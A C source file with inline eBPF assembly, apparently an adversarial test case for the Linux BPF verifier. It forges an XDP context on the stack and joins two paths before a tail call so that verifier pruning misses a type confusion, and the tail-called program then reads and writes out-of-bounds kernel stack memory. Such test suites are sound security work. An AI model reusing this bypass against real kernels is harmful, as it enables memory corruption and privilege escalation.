// @class tail-call-context
// @inputs 64:00 64:01
/*
 * r1 at the tail call is the context on one path and a stack address on the
 * other; the paths join before the call, so a verifier that prunes the second
 * path against the first never checks it. Packet byte 0 picks the path.
 */
#include "adversarial.h"

int target(struct xdp_md *ctx);

struct {
	__uint(type, BPF_MAP_TYPE_PROG_ARRAY);
	__uint(max_entries, 1);
	__type(key, __u32);
	__array(values, int (struct xdp_md *));
} jmp_table SEC(".maps") = { .values = { [0] = (void *)&target } };

SEC("xdp")
__naked int attack(struct xdp_md *ctx)
{
	asm volatile (
	LOAD_PACKET
	"r4 = r2;"
	"r4 += 1;"
	"if r4 > r3 goto 3f;"
	"r5 = *(u8 *)(r2 + 0);"
	"r6 = r10;"
	"r6 += -24;"
	"*(u64 *)(r10 - 24) = r6;"
	"r7 = r10;"
	"r7 += 2048;"
	"*(u64 *)(r10 - 16) = r7;"
	"*(u64 *)(r10 - 8) = r6;"
	"if r5 == 0 goto 1f;"
	"r1 = r6;"
"1:"
	"r2 = %[jmp_table] ll;"
	"r3 = 0;"
	"call %[bpf_tail_call];"
"3:"
	"r0 = 7;"
	"exit;"
	:
	: __imm_addr(jmp_table), __imm(bpf_tail_call)
	: __clobber_all);
}

SEC("xdp")
__naked int target(struct xdp_md *ctx)
{
	asm volatile (
	LOAD_PACKET
	"r4 = r2;"
	"r4 += 1024;"
	"if r4 > r3 goto 2f;"
	"r0 = *(u64 *)(r2 + 1000);"
	"*(u64 *)(r2 + 0) = r0;"
	"exit;"
"2:"
	"r0 = 1;"
	"exit;"
	::: __clobber_all);
}
